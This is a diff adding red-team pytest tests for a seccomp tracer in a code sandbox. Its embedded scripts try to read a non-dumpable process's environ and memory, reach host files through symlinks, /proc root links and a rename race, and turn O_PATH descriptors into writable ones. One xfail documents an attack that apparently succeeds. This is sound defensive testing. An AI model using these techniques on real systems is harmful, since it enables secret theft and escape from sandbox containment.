@@ -1,0 +1,334 @@
+"""Red-team attacks on the tracer as a confused deputy, by the attacker's book.
+
+With pinning (seccomp_trace.c, "Pinning an open"), the tracer -- a process outside the sandbox,
+root where evotree runs as root -- walks every read-open of a phase's program itself, opens the
+file and hands the caller that descriptor; for O_CREAT of a missing name it makes the file
+itself. It judges the caller's permission by the mode bits. Each attack below is what a
+candidate's train code (arbitrary code in the phase's sandbox) would try to make the tracer do
+for it what the kernel would refuse it: read a file of the host or one of the box it may not
+read, get a writable descriptor from a read-open, make a file where or as it could not, wear the
+tracer out, or tell an honest program something the kernel would not. Each runs a Python script
+in the real sandbox under the compiled tracer; where the kernel's own answer is the point, a
+control runs the same script with pinning off (``EVOTREE_TRACE_PIN=off``: the kernel opens).
+
+An attack that works is a strict xfail asserting the safe outcome (its reason says how it
+works); one that is stopped is a passing test asserting it is stopped.
+"""
+
+from __future__ import annotations
+
+import os
+import struct
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from test_redteam_gym_trace import _flagged, _task_repo
+
+from evotree.harness import sandbox
+from evotree.harness.audit.trace import TRACE_FILE, git_identities
+from evotree.harness.audit.trajectories import TrajectoryAudit, audit_trajectories
+from evotree.harness.sandbox import finish_trace, wrap
+from evotree.harness.sandbox_launch import accounted, sandbox_env
+from evotree.harness.sandbox_spec import SandboxSpec
+
+#: a uid and gid the phase does not have (it runs as uid 0 without capabilities, or as the user)
+OTHER = 4321
+
+
+@pytest.fixture
+def seccomp(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sandbox, "TRACER", "seccomp")
+    monkeypatch.delenv("EVOTREE_TRACE_PIN", raising=False)
+    if not (sandbox.check_sandbox().ok and sandbox._seccomp_works()):
+        pytest.skip("needs bubblewrap and the compiled seccomp tracer (a C compiler)")
+    if not git_identities():
+        pytest.skip("no git on this machine")
+
+
+@pytest.fixture
+def as_root(seccomp: None) -> None:
+    if os.geteuid() != 0:
+        pytest.skip("the attack needs files of another owner (made as root), as on CI")
+
+
+def _run(
+    tmp_path: Path,
+    script: str,
+    setup: Callable[[Path], None] | None = None,
+    *,
+    pin: str = "",
+    timeout: float = 120,
+) -> tuple[subprocess.CompletedProcess, TrajectoryAudit]:
+    """Run ``python3 t.py`` (``script``) in the sandbox over a task repository, traced; audit
+    the trace. ``setup(work)``: files made outside the box before it starts (as the test's user);
+    ``pin``: EVOTREE_TRACE_PIN for the tracer ("off": the kernel opens, the control)."""
+    work = tmp_path / "work"
+    base = subprocess.run(
+        ["git", "-C", str(_task_root(work)), "rev-parse", "HEAD"],
+        check=True,
+        capture_output=True,
+        text=True,
+    ).stdout.strip()
+    (work / "t.py").write_text(script)
+    if setup:
+        setup(work)
+    spec = SandboxSpec(cwd=work, read_write=(work,), trace=tmp_path / "raw.trace")
+    env = sandbox_env(dict(os.environ))
+    if pin:
+        env["EVOTREE_TRACE_PIN"] = pin
+    proc = subprocess.run(
+        accounted(wrap(spec, ["python3", "t.py"])),
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+    )
+    evidence = tmp_path / "evidence"
+    evidence.mkdir()
+    finish_trace(spec, evidence)
+    return proc, audit_trajectories([evidence / TRACE_FILE], repo=work, base=base)
+
+
+def _task_root(work: Path) -> Path:
+    _task_repo(work)
+    return work
+
+
+def _lines(proc: subprocess.CompletedProcess) -> dict[str, str]:
+    """The script's ``KEY value`` lines."""
+    out = {}
+    for line in proc.stdout.splitlines():
+        key, _, value = line.partition(" ")
+        out[key] = value
+    return out
+
+
+#: opens PATHS (one per argument line of the script) and prints ``name OK <bytes>`` or
+#: ``name ERR <errno>``
+_OPENS = """\
+import errno, os
+def attempt(name, path, flags=os.O_RDONLY, *args):
+    try:
+        fd = os.open(path, flags, *args)
+    except OSError as exc:
+        print(name, "ERR", errno.errorcode.get(exc.errno, exc.errno))
+        return None
+    try:
+        data = os.pread(fd, 200, 0) if not flags & os.O_DIRECTORY else b"<dir>"
+    except OSError as exc:
+        data = ("<" + errno.errorcode.get(exc.errno, str(exc.errno)) + ">").encode()
+    print(name, "OK", data[:200])
+    return fd
+"""
+
+
+def _differs(pinned: dict[str, str], kernel: dict[str, str]) -> dict[str, tuple[str, str]]:
+    """The lines the pinned run and the kernel's (pinning off) answered differently."""
+    keys = sorted(set(pinned) | set(kernel))
+    return {
+        k: (pinned.get(k, "-"), kernel.get(k, "-")) for k in keys if pinned.get(k) != kernel.get(k)
+    }
+
+
+# --------------------------------------------- another process's /proc entries, by ptrace rule
+
+#: a child of the phase makes itself non-dumpable (PR_SET_DUMPABLE 0: what ssh-agent, gpg-agent
+#: and credential helpers do so that processes of the same user cannot read them): the kernel
+#: refuses its environ, maps and mem to every process without CAP_SYS_PTRACE (ptrace's READ
+#: check, made at open with the opener's credentials). Opened directly, and through a link of
+#: the phase's own to its /proc folder
+_NON_DUMPABLE = (
+    _OPENS
+    + """\
+import ctypes, time
+r, w = os.pipe()
+pid = os.fork()
+if pid == 0:
+    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
+    os.environ.clear()
+    os.write(w, b"x")
+    time.sleep(20)
+    os._exit(0)
+os.read(r, 1)
+os.symlink("/proc/%d" % pid, "/tmp/pc")
+for what in ("environ", "maps", "auxv"):
+    attempt("direct-" + what, "/proc/%d/%s" % (pid, what))
+    attempt("link-" + what, "/tmp/pc/" + what)
+fd = attempt("link-mem", "/tmp/pc/mem")
+if fd is not None:
+    start = int(open("/proc/self/maps").readline().split("-")[0], 16)
+    print("memread", os.pread(fd, 4, start))
+os.kill(pid, 9)
+"""
+)
+
+
+@pytest.mark.heavy
+def test_a_non_dumpable_process_is_refused_by_the_kernel(tmp_path: Path, seccomp: None) -> None:
+    """The control: with pinning off, the kernel refuses every one of those opens."""
+    proc, _ = _run(tmp_path, _NON_DUMPABLE, pin="off")
+    out = _lines(proc)
+    assert out["direct-environ"] == "ERR EACCES", proc.stdout + proc.stderr[-2000:]
+    assert all(out[k] == "ERR EACCES" for k in out if k.startswith(("direct-", "link-"))), out
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=True,
+    raises=AssertionError,
+    reason="the tracer opens /proc/PID/environ, maps, auxv and mem of a process of the box for "
+    "the caller with its own credentials (root: CAP_SYS_PTRACE, which drop_file_capabilities "
+    "keeps), and checks only the mode bits (0400, the caller's uid): ptrace's READ check, made "
+    "at open, passes for the tracer, so a process that made itself non-dumpable is read by any "
+    "other process of the box, its memory included",
+)
+def test_a_non_dumpable_process_is_not_read_through_the_tracer(
+    tmp_path: Path, seccomp: None
+) -> None:
+    proc, audit = _run(tmp_path, _NON_DUMPABLE)
+    out = _lines(proc)
+    got = {k: v for k, v in out.items() if k.startswith(("direct-", "link-")) and v != "ERR EACCES"}
+    assert not got or _flagged(audit), got
+
+
+# ------------------------------------------------------ files of the host, outside the box
+
+#: a file beside the task's work tree (not bound): named through a link of the phase's own
+#: (absolute: the tracer's root is the host's), ".." climbing past the root, /proc/self/root,
+#: /proc/1/root and /proc/1/cwd, and a folder of the box renamed while the walk goes on
+_HOST = (
+    _OPENS
+    + """\
+import threading
+host = os.path.dirname(os.getcwd()) + "/host.txt"
+os.symlink(host, "/tmp/abs")
+attempt("abs-link", "/tmp/abs")
+os.symlink("../" * 40 + host.lstrip("/"), "/tmp/dots")
+attempt("dots-link", "/tmp/dots")
+os.makedirs("/tmp/deep/a/b")
+os.symlink("../../../../../../../../.." + os.path.dirname(host), "/tmp/deep/a/b/up")
+attempt("up-link", "/tmp/deep/a/b/up/host.txt")
+attempt("proc-self-root", "/proc/self/root" + host)
+attempt("proc-1-root", "/proc/1/root" + host)
+attempt("proc-1-cwd", "/proc/1/cwd/../host.txt")
+attempt("dev-fd-cwd", "/dev/fd/../../proc/self/root" + host)
+os.makedirs("/tmp/x/y")
+stop = [False]
+def flip():
+    while not stop[0]:
+        try:
+            os.rename("/tmp/x/y", "/tmp/y")
+            os.rename("/tmp/y", "/tmp/x/y")
+        except OSError:
+            pass
+threading.Thread(target=flip, daemon=True).start()
+got = 0
+for _ in range(2000):
+    try:
+        fd = os.open("/tmp/x/y/" + "../" * 12 + host.lstrip("/"), os.O_RDONLY)
+        print("renamed OK", os.read(fd, 100))
+        got += 1
+    except OSError:
+        pass
+stop[0] = True
+"""
+)
+
+
+@pytest.mark.heavy
+def test_a_host_file_is_never_read_through_the_tracer(tmp_path: Path, seccomp: None) -> None:
+    def setup(work: Path) -> None:
+        (work.parent / "host.txt").write_text("HOST_SECRET_7\n")
+
+    proc, _ = _run(tmp_path, _HOST, setup)
+    assert "HOST_SECRET_7" not in proc.stdout, proc.stdout
+    out = _lines(proc)
+    assert out["abs-link"].startswith("ERR") and out["proc-1-root"].startswith("ERR"), out
+
+
+# --------------------------------------------------- files of the box the caller may not read
+
+
+def _other_owner(work: Path) -> None:
+    """Files of another uid: 0600; 0644 in a folder 0700; 0644 with an ACL denying uid 0 and
+    the test's uid; 0444 (opened to truncate or write)."""
+    (work / "other600").write_text("SECRET_600\n")
+    os.chmod(work / "other600", 0o600)
+    (work / "nox").mkdir()
+    (work / "nox" / "f.txt").write_text("SECRET_NOX\n")
+    os.chmod(work / "nox", 0o700)
+    (work / "acl.txt").write_text("SECRET_ACL\n")
+    entries = [(1, 6, 0xFFFFFFFF), (2, 0, 0), (4, 4, 0xFFFFFFFF), (0x10, 4, 0xFFFFFFFF)]
+    entries.append((0x20, 4, 0xFFFFFFFF))  # user::rw user:0:--- group::r mask::r other::r
+    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)
+    os.setxattr(work / "acl.txt", "system.posix_acl_access", acl)
+    (work / "ro444").write_text("KEEP_444\n")
+    os.chmod(work / "ro444", 0o444)
+    for name in ("other600", "nox", "nox/f.txt", "acl.txt", "ro444"):
+        os.chown(work / name, OTHER, OTHER)
+
+
+_OTHER_OWNER = (
+    _OPENS
+    + """\
+attempt("other600", "other600")
+attempt("nox", "nox/f.txt")
+attempt("nox-dir", "nox", os.O_RDONLY | os.O_DIRECTORY)
+attempt("acl", "acl.txt")
+attempt("trunc", "ro444", os.O_RDONLY | os.O_TRUNC)
+attempt("rdwr", "ro444", os.O_RDWR)
+attempt("rdwr-append", "ro444", os.O_RDWR | os.O_APPEND)
+p = os.open("ro444", os.O_PATH)
+attempt("path-upgraded", "/proc/self/fd/%d" % p, os.O_RDWR)
+attempt("path-upgraded-trunc", "/dev/fd/%d" % p, os.O_RDONLY | os.O_TRUNC)
+os.symlink(os.getcwd() + "/nox", "/tmp/nox")
+attempt("nox-link", "/tmp/nox/f.txt")
+"""
+)
+
+
+@pytest.mark.heavy
+def test_a_file_of_another_owner_is_refused_as_the_kernel_refuses_it(
+    tmp_path: Path, as_root: None
+) -> None:
+    """Stopped: the serving thread walks and opens without the capabilities that pass over file
+    permissions, so the kernel refuses it what it refuses the phase (a folder without x, an
+    ACL), and the mode bits check the rest; nothing is read, the 0444 file keeps its bytes."""
+    proc, _ = _run(tmp_path, _OTHER_OWNER, _other_owner)
+    out = _lines(proc)
+    assert "SECRET" not in proc.stdout, proc.stdout
+    assert out and all(v == "ERR EACCES" for v in out.values()), out
+    assert (tmp_path / "work" / "ro444").read_text() == "KEEP_444\n"
+
+
+# ------------------------------------------------------------ a read-only bind, from inside
+
+_READ_ONLY = (
+    _OPENS
+    + """\
+attempt("usr-rdwr", "/usr/bin/env", os.O_RDWR)
+attempt("usr-trunc", "/usr/bin/env", os.O_RDONLY | os.O_TRUNC)
+attempt("usr-creat", "/usr/made_by_tracer", os.O_RDONLY | os.O_CREAT, 0o644)
+attempt("usr-creat-link", "/tmp/mk", os.O_RDONLY | os.O_CREAT, 0o644) if os.symlink(
+    "/usr/made_by_link", "/tmp/mk") is None else None
+attempt("head-rdwr", ".git/HEAD", os.O_RDWR)
+attempt("head-trunc", ".git/HEAD", os.O_RDONLY | os.O_TRUNC)
+p = os.open(".git/HEAD", os.O_PATH)
+attempt("head-path-upgraded", "/proc/self/fd/%d" % p, os.O_RDWR | os.O_TRUNC)
+os.symlink(os.getcwd() + "/.git", "/tmp/g")
+attempt("head-through-link", "/tmp/g/HEAD", os.O_RDWR | os.O_APPEND)
+"""
+)
+
+
+@pytest.mark.heavy
+def test_a_read_only_bind_gives_no_writable_descriptor(tmp_path: Path, seccomp: None) -> None:
+    """Stopped: the tracer reopens through the sandbox's own mount (read-only), and makes
+    files in the folder its walk reached there: EROFS, as the kernel answers."""
+    proc, _ = _run(tmp_path, _READ_ONLY)
+    out = _lines(proc)
+    assert out and all(v in ("ERR EROFS", "ERR EACCES") for v in out.values()), out
+    assert not Path("/usr/made_by_tracer").exists() and not Path("/usr/made_by_link").exists()
+    assert (tmp_path / "work" / ".git" / "HEAD").read_text().startswith("ref: refs/heads/main")
